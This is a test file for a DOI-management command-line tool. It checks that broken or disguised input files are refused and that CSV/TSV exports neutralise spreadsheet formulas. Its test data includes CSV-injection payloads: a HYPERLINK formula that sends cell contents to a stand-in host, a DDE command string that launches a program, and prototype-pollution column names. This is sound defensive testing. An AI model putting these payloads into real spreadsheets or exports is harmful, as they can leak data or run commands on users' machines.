// Spreadsheets, arrays and packed files that are damaged, or made to be taken for something else.
// To add a file that is refused, add a row to REFUSED: its name, its bytes, and what the error
// says.
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it, vi } from 'vitest';
import { readCsv } from '../../src/formats/spreadsheet/csv-reader.ts';
import { emulate } from '../helpers/emulator.ts';
import { run } from '../helpers/run.ts';
import { accountAt } from '../helpers/server.ts';
import { temporaryDirectory } from '../helpers/temporary.ts';

const HEAD = 'doi,titles[0].title\n';
const ROW = '10.5072/a,One\n';
const LATIN1 = Buffer.from('10.5072/a,\xe9t\xe9\n', 'latin1');

const RESULT = '{"line":1,"doi":"10.5072/a","state":null,"outcome":"failed","errors":[]}\n';

const REFUSED: readonly (readonly [
  what: string,
  name: string,
  content: string | Buffer,
  message: RegExp,
])[] = [
  [
    'an open quote',
    'x.csv',
    `${HEAD}${ROW}10.5072/b,"Two\n10.5072/c,Three\n`,
    /x\.csv:3: a cell begins with a quote, but has no closing quote/,
  ],
  ['a quote in a cell', 'x.csv', `${HEAD}10.5072/b,Two "2"\n`, /x\.csv:2: a quote in the middle/],
  ['text after a quote', 'x.csv', `${HEAD}10.5072/b,"Two"2\n`, /x\.csv:2: a quote in the middle/],
  [
    'more cells than heads',
    'x.csv',
    `${HEAD}10.5072/b,Two, three\n`,
    /x\.csv, row 2: there is text to the right/,
  ],
  [
    'another encoding',
    'x.csv',
    Buffer.concat([Buffer.from(HEAD), LATIN1]),
    /x\.csv, row 2: titles\[0\]\.title is not UTF-8: "\ufffdt\ufffd"\nhint: save it as "CSV UTF-8"/,
  ],
  ['no heads', 'x.csv', ROW, /x\.csv, row 1: the column "10\.5072\/a" is not known/],
  ['no rows', 'x.csv', HEAD, /x\.csv holds no record/],
  ['nothing', 'x.csv', '', /x\.csv is empty/],
  [
    'a column twice',
    'x.csv',
    `doi,url,url\n10.5072/a,https://a.example,https://b.example\n`,
    /the columns url and url hold the same values/,
  ],
  [
    'a column of the prototype',
    'x.csv',
    'doi,__proto__\n10.5072/a,x\n',
    /the column "__proto__" is not known/,
  ],
  [
    'a column of the constructor',
    'x.csv',
    'doi,creators[0].constructor\n10.5072/a,x\n',
    /is not known/,
  ],
  ['an index without end', 'x.csv', 'doi,titles[99999999].title\n10.5072/a,x\n', /is not known/],
  ['no DOI', 'x.csv', `${HEAD}not a doi,One\n`, /x\.csv, row 2: column doi: /],
  ['a DOI twice', 'x.csv', `${HEAD}${ROW}10.5072/A,Two\n`, /x\.csv, row 3 has the DOI of row 2/],
  ['results', 'x.ndjson', RESULT, /x\.ndjson:1: is the result of a run, not a record/],
  [
    'results as an array',
    'x.json',
    `[${RESULT}]`,
    /x\.json:1: is the result of a run, not a record/,
  ],
  ...['x.csv', 'x.xlsx', 'x.xls', 'x.ods', 'x.numbers', 'x.ndjson'].map((name) => {
    const bytes = Buffer.from(name === 'x.xls' ? 'd0cf11e0a1b11ae1' : '504b030414000600', 'hex');
    const message = /is a workbook or an archive, not text\nhint: save the table in it as "CSV/;
    return ['a workbook', name, bytes, message] as const;
  }),
  [
    'what validate has found',
    'x.ndjson',
    '{"line":1,"doi":"10.5072/a","state":"draft","valid":true,"findings":[]}\n',
    /x\.ndjson:1: is the result of a run, not a record/,
  ],
  [
    'a cut gzip',
    'x.csv.gz',
    gzipSync(
      HEAD + Array.from({ length: 999 }, (_, at) => `10.5072/a${at},One\n`).join(''),
    ).subarray(0, -20),
    /cannot unpack .*x\.csv\.gz: it is damaged or incomplete/,
  ],
  [
    'a damaged gzip',
    'x.json.gz',
    Buffer.concat([gzipSync('[]').subarray(0, 12), Buffer.alloc(20, 7)]),
    /cannot unpack/,
  ],
  [
    'a cut array',
    'x.json',
    '[\n{"doi":"10.5072/a"},\n{"doi":"10.50',
    /x\.json:3: the list ends before its closing \]/,
  ],
  [
    'an array without commas',
    'x.json',
    '[\n{"doi":"10.5072/a"}\n{"doi":"10.5072/b"}\n]',
    /x\.json:3:.* \(not valid JSON\)/,
  ],
  [
    'an array with a comma too many',
    'x.json',
    '[{"doi":"10.5072/a"},\n]',
    /x\.json:2: a record is missing next to a comma/,
  ],
  [
    'an array and more',
    'x.json',
    '[{"doi":"10.5072/a"}]\n{"doi":"10.5072/b"}',
    /x\.json:2: there is more after the end/,
  ],
  ['two arrays', 'x.json', '[{"doi":"10.5072/a"}]\n[]', /x\.json:2: there is more after the end/],
  [
    'a line break in a string of an array',
    'x.json',
    '[{"doi":"10.5072/a","url":"a\nb"}]',
    /x\.json:1:.* a text has no closing quote \(not valid JSON\)/,
  ],
  ['brackets that do not match', 'x.json', '[{"doi":"10.5072/a"]]', /x\.json:1\b.*not valid JSON/],
  ['an array of texts', 'x.json', '["10.5072/a"]', /x\.json:1: holds no JSON object/],
];

describe('a file of records', () => {
  it.each(REFUSED)('with %s is refused before any request', async (_, name, content, message) => {
    const folder = temporaryDirectory();
    const path = join(folder, name);
    writeFileSync(path, content);
    vi.stubEnv('TMPDIR', folder);
    vi.stubEnv('TEMP', folder);
    const { code, stdout, stderr } = await run(['dois', 'create', '--file', path], {
      env: accountAt(new URL('http://127.0.0.1:1')),
    });
    expect([code, stdout, stderr.replaceAll(path, name)]).toEqual([
      2,
      '',
      expect.stringMatching(message),
    ]);
    expect(stderr).not.toContain('\0');
    // The copy that is read has gone.
    expect(readdirSync(folder)).toEqual([name]);
  });

  it('is not taken for another kind because of its text', async () => {
    const given = '// one, two; three\n{"doi":"10.5072/a"}\n';
    const { stderr } = await run(['dois', 'validate', '--file', '-'], { stdin: given });
    expect(stderr).not.toContain('column');
    const prose = await run(['dois', 'validate', '--file', '-'], {
      stdin: 'prefix, 10.5072 and more\n',
    });
    expect(prose.stderr + prose.stdout).toMatch(/column|not valid JSON/);
  });

  it.each(['\n', '\r\n', '\r'])(
    'names rows with line breaks %j as spreadsheets do',
    async (end) => {
      const text = ['doi,titles[0].title', '10.5072/a,"x', 'y"', '', '10.5072/b,z'].join(end);
      const rows: number[] = [];
      async function* bytes() {
        for (const byte of Buffer.from(text)) yield Buffer.from([byte]);
      }
      for await (const { number } of readCsv(bytes(), 'x.csv')) rows.push(number);
      expect(rows).toEqual([1, 2, 3, 4]);
    },
  );
});

describe('a list for a spreadsheet', () => {
  const FORMULAS = [
    '=HYPERLINK("http://a.example?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
  ];

  it.each(['csv', 'tsv'])('runs no formula of a record as %s', async (format) => {
    const emulator = await emulate();
    const stdin = JSON.stringify({
      doi: '10.5072/formula',
      titles: FORMULAS.map((title) => ({ title })),
      creators: FORMULAS.map((name) => ({ name })),
      subjects: FORMULAS.map((subject) => ({ subject })),
    });
    expect((await emulator.run(['dois', 'create', '--file', '-'], { stdin })).code).toBe(0);
    const argv = ['dois', 'list', '--mine', '--state', 'draft', '--format', format];
    const { stdout } = await emulator.run(argv);
    const cells: string[] = [];
    for await (const row of readCsv([Buffer.from(stdout)] as unknown as AsyncIterable<Buffer>, 'x'))
      cells.push(...row.cells);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells.filter((cell) => /^\s*[=+@-]/.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([]);
  });

  it('does not lose an item of a list, however many there are', async () => {
    const emulator = await emulate();
    const creators = Array.from({ length: 300 }, (_, index) => ({
      name: `Author ${index}`,
      affiliation: [{ name: 'A' }, { name: 'B' }],
    }));
    const stdin = JSON.stringify({ doi: '10.5072/many', titles: [{ title: 'T' }], creators });
    await emulator.run(['dois', 'create', '--file', '-'], { stdin });
    const path = join(temporaryDirectory(), 'many.csv');
    await emulator.run(['dois', 'list', '--mine', '--state', 'draft', '--out', path]);
    const { stdout } = await emulator.run(['dois', 'validate', '--file', path, '--format', 'json']);
    expect(stdout).not.toContain('"severity":"error"');
    const other = await emulate();
    const made = await other.run(['dois', 'create', '--file', path]);
    expect(made.stdout.split('\n')[0]).toMatch(/"10.5072\/many".*"outcome":"created"/);
    const copy = JSON.parse((await other.run(['dois', 'get', '10.5072/many'])).stdout) as {
      attributes: { creators: object[] };
    };
    expect(copy.attributes.creators).toHaveLength(300);
    expect(copy.attributes.creators[299]).toMatchObject(creators[299] as object);
  });
});
